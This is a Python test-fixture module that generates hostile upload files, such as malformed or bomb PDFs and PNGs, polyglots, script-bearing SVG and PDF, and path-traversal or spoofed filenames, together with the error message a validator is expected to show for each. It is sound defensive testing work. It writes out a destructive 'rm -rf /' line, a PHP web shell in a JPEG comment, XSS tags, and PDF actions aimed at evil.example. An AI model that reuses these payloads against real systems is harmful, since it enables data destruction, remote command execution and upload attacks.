"""Files nobody should ever open, made as they are needed; none of them lies in the repository."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

from config.policy import PEOPLE
from tests.factories.evidence import make_pdf, make_picture


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, the name it is sent under, and what its sender must read."""

    what: str
    make: Callable[[], bytes]
    name: str
    said: str


def zipped(*names: str) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return into.getvalue()


def written(writer: PdfWriter) -> bytes:
    into = io.BytesIO()
    writer.write(into)
    return into.getvalue()


def pdf_with(**catalog: object) -> bytes:
    """A page and whatever else stands in the catalog."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    for name, value in catalog.items():
        writer.root_object[NameObject(f"/{name}")] = value
    return written(writer)


def action(kind: str, **more: object) -> DictionaryObject:
    values = {NameObject("/S"): NameObject(f"/{kind}")}
    values |= {NameObject(f"/{name}"): value for name, value in more.items()}
    return DictionaryObject(values)


def with_javascript() -> bytes:
    return pdf_with(OpenAction=action("JavaScript", JS=TextStringObject("app.alert(1)")))


def hidden_javascript() -> bytes:
    """The same with its name in another spelling."""
    return with_javascript().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53")


def with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("payload.exe", b"MZ")
    return written(writer)


def page_with(annotation: DictionaryObject) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    page[NameObject("/Annots")] = ArrayObject([annotation])
    return written(writer)


def annotation(kind: str, **more: object) -> DictionaryObject:
    values = {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(f"/{kind}")}
    values |= {NameObject(f"/{name}"): value for name, value in more.items()}
    return DictionaryObject(values)


def on_the_page(**more: object) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    for name, value in more.items():
        page[NameObject(f"/{name}")] = value
    return written(writer)


def locked(password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(password, algorithm="RC4-128")
    return written(writer)


def bomb() -> bytes:
    """A stream of a few hundred kilobytes that unpacks to 400 MB."""
    packer, packed = zlib.compressobj(9), b""
    for _ in range(400):
        packed += packer.compress(bytes(2**20))
    packed += packer.flush()
    stream = StreamObject()
    stream._data = packed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    page[NameObject("/Contents")] = writer._add_object(stream)
    return written(writer)


def loop() -> bytes:
    """A tree of pages that is its own branch."""
    return re.sub(rb"/Kids \[ \d+ 0 R \]", b"/Kids [ 2 0 R ]", make_pdf())


def liar() -> bytes:
    """Forty pages that say they are one."""
    return make_pdf(40).replace(b"/Count 40", b"/Count 1 ")


def without_pages() -> bytes:
    return written(PdfWriter())


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    data = b"\x89PNG\r\n\x1a\n"
    for name, body in chunks:
        data += struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    return data


def huge_png(width: int, height: int) -> bytes:
    """A picture that says it is enormous and is a few bytes long."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return png((b"IHDR", head), (b"IDAT", zlib.compress(bytes(64))), (b"IEND", b""))


def real_bomb() -> bytes:
    """49 million pixels of one colour in some 50 kB."""
    into = io.BytesIO()
    Image.new("1", (7000, 7000)).save(into, "PNG", compress_level=9)
    return into.getvalue()


def moving() -> bytes:
    into = io.BytesIO()
    frames = [Image.new("RGB", (200, 200), colour) for colour in ("red", "blue")]
    frames[0].save(into, "PNG", save_all=True, append_images=frames[1:])
    return into.getvalue()


def talking_png() -> bytes:
    into, notes = io.BytesIO(), PngInfo()
    notes.add_text("Comment", "<script>alert(1)</script>")
    Image.new("RGB", (200, 200)).save(into, "PNG", pnginfo=notes)
    return into.getvalue()


def behind(front: bytes, back: bytes) -> bytes:
    return front + back


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
PDF, PNG, JPEG = make_pdf, make_picture, lambda: make_picture("JPEG")
URL = TextStringObject("https://evil.example")
CODE, OTHERS = "The PDF holds a program.", "The PDF carries other files."
CALLS, PLAYS = "The PDF opens or sends something.", "The PDF holds sound, film or a 3D scene."
ENDS = "Something stands behind the end of the file."
DAMAGED, TORN = "The PDF is damaged.", "The picture is damaged or incomplete."
UNFIT_NAME = "The name of the file does not fit what is in it."
PATH = "The name of the file is a path."
UNSEEN = "The name of the file has characters that cannot be seen."

HOSTILE = [
    Hostile("nothing", bytes, "a.pdf", "The file is empty."),
    Hostile("a program", lambda: b"MZ" + bytes(99), "a.pdf", "This is a program."),
    Hostile("a Linux program", lambda: b"\x7fELF" + bytes(99), "a.pdf", "This is a program."),
    Hostile("a shell script", lambda: b"#!/bin/sh\nrm -rf /", "a.pdf", "This is a program."),
    Hostile("an archive", lambda: zipped("a"), "a.pdf", "This is a Word, Excel or zip file."),
    Hostile("a Word file", lambda: zipped("word/document.xml"), "a.docx", "This is a Word, Excel or zip file."),
    Hostile("an old Office file", lambda: b"\xd0\xcf\x11\xe0" + bytes(99), "a.pdf", "This is an old Office file."),
    Hostile("a text with macros", lambda: b"{\\rtf1 x}", "a.pdf", "This is a text file of a word processor."),
    Hostile("a drawing with a script", lambda: SVG, "a.svg", "This is a web page or an SVG drawing."),
    Hostile("a drawing called a picture", lambda: b"\n " + SVG, "a.png", "This is a web page or an SVG drawing."),
    Hostile("a page called a PDF", lambda: HTML, "a.pdf", "This is a web page or an SVG drawing."),
    Hostile("XML", lambda: b'<?xml version="1.0"?><!DOCTYPE a>', "a.pdf", "This is a web page or an SVG drawing."),
    Hostile("a GIF", lambda: b"GIF89a" + bytes(99), "a.png", "This is a GIF."),
    Hostile("a TIFF", lambda: b"II*\0" + bytes(99), "a.jpg", "This is a TIFF."),
    Hostile("gzip", lambda: b"\x1f\x8b" + bytes(99), "a.pdf", "This is an archive."),
    Hostile("noise", lambda: b"\x13\x37" * 50, "a.pdf", "This is not a PDF, PNG or JPEG file."),
    Hostile("a PDF called a picture", PDF, "a.png", UNFIT_NAME),
    Hostile("a PDF called a program", PDF, "a.pdf.exe", UNFIT_NAME),
    Hostile("a picture called a PDF", PNG, "a.pdf", UNFIT_NAME),
    Hostile("a way out of the folder", PDF, "../../etc/passwd.pdf", PATH),
    Hostile("a way out on Windows", PDF, "..\\..\\boot.pdf", PATH),
    Hostile("a place of its own", PDF, "/etc/cron.d/x.pdf", PATH),
    Hostile("a hidden name", PDF, ".htaccess.pdf", PATH),
    Hostile("a name cut short", PDF, "a.exe\0.pdf", UNSEEN),
    Hostile("a name written backwards", PDF, "a\u202efdp.exe.pdf", UNSEEN),
    Hostile("a header in the name", PDF, "a\r\nSet-Cookie: x.pdf", UNSEEN),
    Hostile("an endless name", PDF, "a" * 300 + ".pdf", "The name of the file has more than 255 characters."),
    Hostile("JavaScript", with_javascript, "a.pdf", CODE),
    Hostile("JavaScript under a written-out name", hidden_javascript, "a.pdf", CODE),
    Hostile("a start of a program", lambda: pdf_with(OpenAction=action("Launch", F=URL)), "a.pdf", CODE),
    Hostile("an act at opening a page", lambda: on_the_page(AA=DictionaryObject({NameObject("/O"): action("URI")})), "a.pdf", CODE),
    Hostile("a file inside", with_attachment, "a.pdf", OTHERS),
    Hostile("a portfolio", lambda: pdf_with(Collection=DictionaryObject()), "a.pdf", OTHERS),
    Hostile("a pinned file", lambda: page_with(annotation("FileAttachment")), "a.pdf", OTHERS),
    Hostile("a form that sends", lambda: page_with(annotation("Widget", A=action("SubmitForm", F=URL))), "a.pdf", CALLS),
    Hostile("a jump to another file", lambda: pdf_with(OpenAction=action("GoToR", F=URL)), "a.pdf", CALLS),
    Hostile("a form of XML", lambda: pdf_with(AcroForm=DictionaryObject({NameObject("/XFA"): URL})), "a.pdf", "The PDF is an interactive form."),
    Hostile("a film", lambda: page_with(annotation("RichMedia")), "a.pdf", PLAYS),
    Hostile("a lock with a password", lambda: locked("secret"), "a.pdf", "The PDF is locked."),
    Hostile("a lock without one", lambda: locked(""), "a.pdf", "The PDF is locked."),
    Hostile("too many pages", lambda: make_pdf(PEOPLE.evidence_pages_maximum + 1), "a.pdf", "The PDF has 31 pages."),
    Hostile("no page", without_pages, "a.pdf", "The PDF has no page."),
    Hostile("a bomb", bomb, "a.pdf", "The PDF unpacks to an enormous size."),
    Hostile("a tree without end", loop, "a.pdf", DAMAGED),
    Hostile("more pages than it says", liar, "a.pdf", "The PDF has 40 pages."),
    Hostile("half a PDF", lambda: make_pdf()[:200], "a.pdf", DAMAGED),
    Hostile("a head alone", lambda: b"%PDF-1.7\n%%EOF", "a.pdf", DAMAGED),
    Hostile("an unknown version", lambda: make_pdf().replace(b"%PDF-1.3", b"%PDF-9.9", 1), "a.pdf", DAMAGED),
    Hostile("a PDF and an archive", lambda: behind(make_pdf(), zipped("a")), "a.pdf", ENDS),
    Hostile("an archive in a comment", lambda: make_pdf().replace(b"%%EOF", b"%" + zipped("a").replace(b"\n", b"") + b"\n%%EOF"), "a.pdf", "The file is an archive at the same time."),
    Hostile("a page in a comment", lambda: make_pdf().replace(b"%%EOF", b"%" + HTML + b"\n%%EOF"), "a.pdf", "The file holds the code of a web page."),
    Hostile("an enormous picture", lambda: huge_png(60_000, 60_000), "a.png", "The picture has more than 40 million pixels."),
    Hostile("a picture that unpacks", real_bomb, "a.png", "The picture has more than 40 million pixels."),
    Hostile("a wide picture", lambda: huge_png(2**31 - 1, 1), "a.png", "The picture has more than 40 million pixels."),
    Hostile("a dot", lambda: make_picture(size=(1, 1)), "a.png", "The picture is too small to read."),
    Hostile("a moving picture", moving, "a.png", "The picture moves."),
    Hostile("half a picture", lambda: make_picture()[:-30], "a.png", TORN),
    Hostile("half a photograph", lambda: make_picture("JPEG")[:400], "a.jpg", TORN),
    Hostile("a head of a photograph", lambda: b"\xff\xd8\xff\xe0" + bytes(40), "a.jpg", TORN),
    Hostile("a picture and a program", lambda: behind(make_picture(), b"MZ" + bytes(99)), "a.png", ENDS),
    Hostile("a photograph and an archive", lambda: behind(make_picture("JPEG"), zipped("A.class")), "a.jpg", ENDS),
    Hostile("a photograph and a page", lambda: behind(make_picture("JPEG"), HTML), "a.jpg", ENDS),
    Hostile("a script in a comment", talking_png, "a.png", "The file holds the code of a web page."),
    Hostile("PHP in a photograph", lambda: make_picture("JPEG", comment=b"<?php system($_GET[0]); ?>"), "a.jpg", "The file holds the code of a web page."),
]  # fmt: skip
